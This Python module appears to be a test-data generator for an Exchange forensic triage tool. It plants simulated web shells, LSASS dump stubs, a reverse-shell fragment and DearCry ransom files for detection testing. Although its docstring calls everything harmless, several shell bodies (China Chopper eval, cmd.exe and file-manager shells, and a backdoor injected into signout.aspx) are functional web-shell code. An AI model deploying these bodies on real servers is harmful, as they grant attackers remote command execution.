"""Planter: Exchange's web folders, and the web shells and post-exploitation files of the plan.

The legitimate tree uses real relative paths of the plan's build from the shipped CSS-Exchange
baseline, but synthetic content (we do not have Microsoft's files), so against the real baseline
those files are *modified*/*unknown* and the scan says the baseline does not cover the build; tests
of the known-good branch hash this tree into a small baseline of their own (see
``tests/webfiles``). Everything planted is harmless text that carries the patterns of each shell
family, never working malware: payloads read a parameter and do nothing dangerous on their own.

``plan.extras["webfiles"]`` records what was planted (path, family, URL) for tests and demos.
``plan.extras["webfiles_legit_files"]`` (int) limits how many legitimate files are written
(default 600; 0 = every file of the build, ~17,000, used by the benchmark).
"""

from __future__ import annotations

import io
import random
import zipfile
from datetime import datetime, timedelta
from typing import Any

from extriage.detections.webfiles.baseline import load_baseline
from extriage.generator.plan import AttackPlan
from extriage.generator.tree import Tree

TEMP_ASPNET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files"
#: Pages a working server has compiled (legitimate virtual paths).
LEGIT_COMPILED = (
    "/owa/auth/logon.aspx",
    "/owa/auth/logoff.aspx",
    "/ecp/default.aspx",
    "/owa/auth/errorfe.aspx",
)
_HOT = ("frontend/httpproxy/owa/auth/", "frontend/httpproxy/ecp/auth/", "clientaccess/owa/auth/")


def plant(tree: Tree, plan: AttackPlan, rng: random.Random) -> None:
    installed = plan.start - timedelta(days=30)
    planted: list[dict[str, Any]] = []
    legit = _legit_tree(tree, plan, rng, installed)
    _compiled(tree, plan, rng, "/owa/auth/logon.aspx", installed + timedelta(days=1), legit=True)
    for vp in LEGIT_COMPILED[1:]:
        _compiled(tree, plan, rng, vp, installed + timedelta(days=2), legit=True)
    if plan.webshell_files and "proxylogon" in plan.components and plan.shells:
        planted = _attack(tree, plan, rng)
    plan.extras["webfiles"] = {"legit_files": legit, "planted": planted}


# ---- the legitimate tree ---------------------------------------------------------------------
def _legit_tree(tree: Tree, plan: AttackPlan, rng: random.Random, mtime: datetime) -> int:
    base = load_baseline()
    paths = base.paths_for_build(plan.build_text) or base.paths_for_build(base.builds[-1])
    limit = int(plan.extras.get("webfiles_legit_files", 600))
    hot = [p for p in paths if p.startswith(_HOT) and "/version/" not in p]
    rest = [p for p in paths if p not in set(hot)]
    if limit and len(rest) > limit:
        rest = sorted(rng.sample(rest, limit))
    n = 0
    for rel in hot + rest:
        win = (
            plan.install_path
            + "\\"
            + _canonical(rel).replace("/version/", f"/{plan.owa_version_folder}/").replace("/", "\\")
        )
        tree.write_bytes(win, legit_content(rel, rng), mtime=mtime)
        n += 1
    return n


def _canonical(rel: str) -> str:
    """The baseline's lower-case path with Exchange's own spelling of the top folders."""
    for low, real in (("frontend/httpproxy/", "FrontEnd/HttpProxy/"), ("clientaccess/", "ClientAccess/")):
        if rel.startswith(low):
            return real + rel[len(low) :]
    return rel


def legit_content(rel: str, rng: random.Random) -> bytes:
    """Harmless stand-in content for a legitimate file, shaped like its type."""
    name = rel.rsplit("/", 1)[-1]
    ext = name.rsplit(".", 1)[-1] if "." in name else ""
    filler = " ".join(
        rng.choice(("owa", "mail", "calendar", "people", "tasks", "settings"))
        for _ in range(rng.randrange(20, 120))
    )
    if ext in ("aspx", "ascx", "master"):
        return (
            f'<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.Clients.Owa2.Server.Web.{name.split(".")[0].title()}" %>\r\n'
            f"<!DOCTYPE html>\r\n<html><head><title>Outlook</title></head><body>\r\n<div>{filler}</div>\r\n</body></html>\r\n"
        ).encode()
    if ext in ("js", "json"):
        return f'/* Microsoft Exchange */\nvar strings = {{ text: "{filler}" }};\nfunction init() {{ return strings.text.length; }}\n'.encode()
    if ext in ("css",):
        return f".{name.split('.')[0]} {{ font-family: 'Segoe UI'; color: #333; }}\n/* {filler} */\n".encode()
    if ext in ("xml", "config", "xsd", "xaml", "svc", "asax", "ashx", "asmx"):
        return f'<?xml version="1.0" encoding="utf-8"?>\r\n<configuration><!-- {filler} --></configuration>\r\n'.encode()
    if ext in ("dll", "exe"):
        return b"MZ\x90\x00" + bytes(rng.getrandbits(8) for _ in range(rng.randrange(256, 2048)))
    if ext in ("png", "gif", "ico", "jpg", "eot", "ttf", "woff"):
        return b"\x89PNG\r\n\x1a\n" + bytes(rng.getrandbits(8) for _ in range(rng.randrange(64, 1024)))
    return f"{filler}\r\n".encode()


def _compiled(tree: Tree, plan: AttackPlan, rng: random.Random, vp: str, when: datetime, legit: bool) -> str:
    d1, d2 = f"{rng.getrandbits(32):08x}", f"{rng.getrandbits(32):08x}"
    app = "App_Web_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    page = vp.rsplit("/", 1)[-1]
    typ = "ASP." + vp.strip("/").replace("/", "_").replace(".", "_")
    body = (
        '<?xml version="1.0" encoding="utf-8"?>\r\n'
        f'<preserve resultType="3" virtualPath="{vp}" hash="{rng.getrandbits(40):x}" filehash="{rng.getrandbits(60):x}" '
        f'flags="110000" assembly="{app}" type="{typ}">\r\n'
        "    <filedeps>\r\n"
        f'        <filedep name="{vp}" />\r\n'
        "    </filedeps>\r\n"
        "</preserve>\r\n"
    )
    path = (
        f"{TEMP_ASPNET}\\{'owa' if legit else 'root'}\\{d1}\\{d2}\\{page}.{rng.getrandbits(32):08x}.compiled"
    )
    tree.write_text(path, body, mtime=when)
    return path


# ---- the attack ------------------------------------------------------------------------------
def _rand(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n))


def shell_bodies(pw: str) -> dict[str, str]:
    """Synthetic shells of every family, keyed by family (harmless, but pattern-faithful)."""
    return {
        "China Chopper": f'<%@ Page Language="Jscript"%><%eval(Request.Item["{pw}"],"unsafe");%>',
        "China Chopper (C#)": (
            f'<%@ Page Language="C#" Debug="true"%><script runat="server">void Page_Load(object s, EventArgs e)'
            f'{{ var x = eval(Request.Form["{pw}"], "unsafe"); }}</script>'
        ),
        "China Chopper (VB)": f'<%@ Page Language="VB"%><% Execute(Request("{pw}")) %>',
        "command shell": (
            '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Diagnostics" %>\r\n'
            '<script runat="server">\r\nprotected void Page_Load(object sender, EventArgs e) {\r\n'
            '  ProcessStartInfo psi = new ProcessStartInfo();\r\n  psi.FileName = "cmd.exe";\r\n'
            f'  psi.Arguments = "/c " + Request.Form["{pw}"];\r\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\r\n'
            "  Process p = Process.Start(psi);\r\n  Response.Write(p.StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n"
        ),
        "Assembly.Load loader": (
            '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\r\n'
            f'<% byte[] k = Convert.FromBase64String(Request.Form["{pw}"]);\r\n'
            '   Assembly a = Assembly.Load(k); a.CreateInstance("U").Equals(this); %>\r\n'
        ),
        "reflection loader": (
            '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\r\n'
            f'<% Type t = Type.GetType(Request["{pw}t"]);\r\n'
            f'   MethodInfo m = t.GetMethod(Request["{pw}m"]);\r\n   m.Invoke(null, new object[] {{ Request["{pw}"] }}); %>\r\n'
        ),
        "file manager": (
            '<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>\r\n<script runat="server">\r\n'
            "void Page_Load(object s, EventArgs e) {\r\n  foreach (DriveInfo d in DriveInfo.GetDrives()) Response.Write(d.Name);\r\n"
            f'  foreach (string f in Directory.GetFiles(Request["{pw}"])) Response.Write(f);\r\n'
            '  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("./") + Request["n"]);\r\n'
            '  if (Request["del"] != null) File.Delete(Request["del"]);\r\n}\r\n</script>\r\n'
        ),
        "SQL console": (
            '<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %>\r\n<script runat="server">\r\n'
            "void Page_Load(object s, EventArgs e) {\r\n"
            '  SqlConnection c = new SqlConnection(Request["cs"]);\r\n'
            f'  SqlCommand q = new SqlCommand(Request["{pw}"], c); c.Open();\r\n'
            "  SqlDataReader r = q.ExecuteReader(); while (r.Read()) Response.Write(r[0]);\r\n}\r\n</script>\r\n"
        ),
        "obfuscated shell": (
            '<%@ Page Language="Jscript" Debug=true%>\r\n<script language="JScript" runat="server">\r\n'
            "var _0x3f2a=['Request','Item','unsafe','" + pw + "'];\r\n"
            "function Page_Load(){ var c=_0x3f2a; eval(System.Text.Encoding.UTF8.GetString("
            "System.Convert.FromBase64String(Request.Item[c[3]])), c[2]); }\r\n</script>\r\n"
        ),
    }


def oab_shell(plan: AttackPlan, pw: str) -> str:
    """The text Reset-OABVirtualDirectory writes: a config dump whose ExternalUrl holds the shell."""
    guid = plan.oab_vdir_guid or "00000000-0000-4000-8000-000000000000"
    fields = [
        ("Name", "OAB (Default Web Site)"),
        ("PollInterval", "480"),
        ("OfflineAddressBooks", ""),
        ("RequireSSL", "True"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"),
        ("MetabasePath", "IIS://" + plan.fqdn + "/W3SVC/1/ROOT/OAB"),
        ("Path", plan.install_path + "\\FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", ""),
        ("InternalUrl", f"https://{plan.fqdn}/OAB"),
        ("InternalAuthenticationMethods", "WindowsIntegrated"),
        (
            "ExternalUrl",
            f'http://f/<script language="JScript" runat="server">function Page_Load(){{eval(Request["{pw}"],"unsafe");}}</script>',
        ),
        ("ExternalAuthenticationMethods", "WindowsIntegrated"),
        ("AdminDisplayVersion", f"Version 15.{plan.build[1]} (Build {plan.build[2]}.{plan.build[3]})"),
        ("Server", plan.hostname),
        ("Identity", f"{plan.hostname}\\OAB (Default Web Site)"),
        ("Guid", guid),
    ]
    return "\r\n".join(f"{k:<33}: {v}" for k, v in fields) + "\r\n"


def minidump(rng: random.Random, size: int = 4096) -> bytes:
    """A harmless MDMP-shaped file: the header signature and an lsass.exe module name, no memory."""
    header = b"MDMP\x93\xa7\x00\x00" + (3).to_bytes(4, "little") + (32).to_bytes(4, "little")
    module = "C:\\Windows\\System32\\lsass.exe".encode("utf-16-le")
    pad = bytes(rng.getrandbits(8) for _ in range(max(0, size - len(header) - len(module) - 4)))
    return header + pad[: len(pad) // 2] + len(module).to_bytes(4, "little") + module + pad[len(pad) // 2 :]


def pst_shell(pw: str, rng: random.Random) -> bytes:
    """A PST-headed page as a mailbox export writes it (encoded attachment inside; harmless)."""
    body = f'<script language="JScript" runat="server">function Page_Load(){{eval(Request["{pw}"],"unsafe");}}</script>'
    enc = bytes((b + 0x13) & 0xFF for b in body.encode())  # stands in for PST's permutative encoding
    return b"!BDN" + bytes(rng.getrandbits(8) for _ in range(508)) + enc + bytes(512)


def compiled_dll(vp: str, rng: random.Random) -> bytes:
    app = "App_Web_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    strings = f"\x00{app}\x00~{vp}\x00{vp}\x00JScriptEvaluate\x00get_Request\x00Page_Load\x00".encode()
    return (
        b"MZ\x90\x00\x03\x00\x00\x00"
        + bytes(120)
        + b"PE\x00\x00"
        + bytes(rng.getrandbits(8) for _ in range(512))
        + strings
    )


def _attack(tree: Tree, plan: AttackPlan, rng: random.Random) -> list[dict[str, Any]]:
    m = plan.moments
    t_written = m.get("webshell_written", plan.attack_start or plan.start)
    t_oabgen = m.get("oabgen_download_failed", t_written)
    t_use = m.get("webshell_first_use", t_written)
    t_lsass = m.get("lsass_dump", t_use)
    t_stage = m.get("archive_staged", t_use)
    pw = plan.shell_password or "x"
    out: list[dict[str, Any]] = []
    inst = plan.install_path
    ver = plan.owa_version_folder

    def put(
        path: str, data: bytes | str, family: str, when: datetime, url: str | None = None, shell: bool = True
    ) -> None:
        raw = data.encode() if isinstance(data, str) else data
        tree.write_bytes(path, raw, mtime=when)
        out.append({"path": path, "family": family, "url": url, "webshell": shell})

    s0, s1 = plan.shells[0], plan.shells[1]
    put(s0.path, oab_shell(plan, pw), "OAB config shell", t_written, s0.url)
    put(s1.path, shell_bodies(pw)["China Chopper"], "China Chopper", t_oabgen, s1.url)
    bodies = shell_bodies(pw)
    extra = [
        (f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{_rand(rng)}.aspx", "China Chopper (C#)"),
        (f"C:\\inetpub\\wwwroot\\aspnet_client\\{_rand(rng)}.asp", "China Chopper (VB)"),
        (f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{_rand(rng)}.aspx", "command shell"),
        (
            f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\{_rand(rng)}.aspx",
            "Assembly.Load loader",
        ),
        (f"{inst}\\FrontEnd\\HttpProxy\\ecp\\auth\\{_rand(rng)}.aspx", "reflection loader"),
        (f"C:\\inetpub\\wwwroot\\aspnet_client\\{_rand(rng)}.aspx", "file manager"),
        (f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\{ver}\\{_rand(rng)}.aspx", "SQL console"),
        (f"C:\\inetpub\\wwwroot\\aspnet_client\\{_rand(rng)}.ashx", "obfuscated shell"),
    ]
    for i, (path, family) in enumerate(extra):
        low = path.lower()
        url = None
        if "\\inetpub\\wwwroot\\" in low:
            url = "/" + path.split("\\wwwroot\\", 1)[1].replace("\\", "/")
        elif "\\httpproxy\\" in low:
            url = "/" + path.split("\\HttpProxy\\", 1)[1].replace("\\", "/")
        put(path, bodies[family], family, t_use + timedelta(minutes=5 * (i + 1)), url)
    # a legitimate page with code injected into it (same path as the clean tree, new content)
    logon = f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\signout.aspx"
    injected = (
        '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.Clients.Owa2.Server.Web.Signout" %>\r\n'
        f'<script runat="server">void Page_Load(object s, EventArgs e){{ if (Request["{pw}"] != null) '
        f'{{ Response.Write(eval(Request.Item["{pw}"], "unsafe")); }} }}</script>\r\n'
        "<!DOCTYPE html>\r\n<html><head><title>Outlook</title></head><body><div>signed out</div></body></html>\r\n"
    )
    put(logon, injected, "modified legitimate page", t_use + timedelta(hours=1), "/owa/auth/signout.aspx")
    # compiled traces of the shells (they survive deletion of the pages)
    path = _compiled(tree, plan, rng, s0.url, t_use, legit=False)
    out.append({"path": path, "family": "compiled page record", "url": s0.url, "webshell": True})
    dll = f"{TEMP_ASPNET}\\root\\{rng.getrandbits(32):08x}\\{rng.getrandbits(32):08x}\\App_Web_{_rand(rng).lower()}.dll"
    put(dll, compiled_dll(s0.url, rng), "compiled web shell", t_use)
    # post-exploitation
    put("C:\\Windows\\Temp\\lsass.dmp", minidump(rng), "LSASS dump", t_lsass, shell=False)
    put(
        "C:\\Users\\Administrator\\AppData\\Local\\Temp\\perfdata_0417.tmp",
        minidump(rng, 6000),
        "LSASS dump (renamed)",
        t_lsass + timedelta(minutes=3),
        shell=False,
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        # a fixed member time (the staging time), not "now": same seed, same bytes
        member = zipfile.ZipInfo("pst/export1.txt", date_time=t_stage.timetuple()[:6])
        zf.writestr(member, "mailbox export placeholder\r\n")
    put("C:\\ProgramData\\it.zip", archive.getvalue(), "staging archive", t_stage, shell=False)
    put(
        "C:\\ProgramData\\powercat.ps1",
        "function powercat\r\n{\r\n  param([string]$c, [int]$p)\r\n  # placeholder: real tool not included\r\n}\r\n",
        "PowerCat",
        t_stage + timedelta(minutes=2),
        shell=False,
    )
    put(
        "C:\\Windows\\Temp\\tcp.ps1",
        "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$stream = $client.GetStream();"
        "[byte[]]$bytes = 0..65535|%{0};# iex $data (placeholder: harmless, never connects)\r\n",
        "Nishang reverse shell",
        t_stage + timedelta(minutes=3),
        shell=False,
    )
    put(
        "C:\\Users\\Public\\opera\\opera_browser.exe",
        b"MZ\x90\x00" + bytes(200),
        "tool drop (opera_browser.exe)",
        t_stage,
        shell=False,
    )
    if "proxyshell" in plan.waves:
        own = plan.wave_periods.get("proxyshell")  # ProxyShell in its own period: the shell dates from then
        put(
            f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\{_rand(rng, 6)}.aspx",
            pst_shell(pw, rng),
            "PST-encoded shell",
            own[0] + timedelta(days=4, hours=2) if own else t_use + timedelta(days=1),
        )
    if plan.scenario == "full":
        t_ransom = t_stage + timedelta(days=1)
        put(
            "C:\\Users\\Administrator\\Documents\\budget2021.xlsx.CRYPT",
            b"DEARCRY!" + bytes(rng.getrandbits(8) for _ in range(1024)),
            "DearCry-encrypted file",
            t_ransom,
            shell=False,
        )
        put(
            "C:\\Users\\Administrator\\Desktop\\readme.txt",
            "Your file has been encrypted!\r\nIf you want to decrypt, please contact us.\r\nkonedieyp@airmail.cc or uenwonken@memail.com\r\n",
            "DearCry ransom note",
            t_ransom,
            shell=False,
        )
    return out
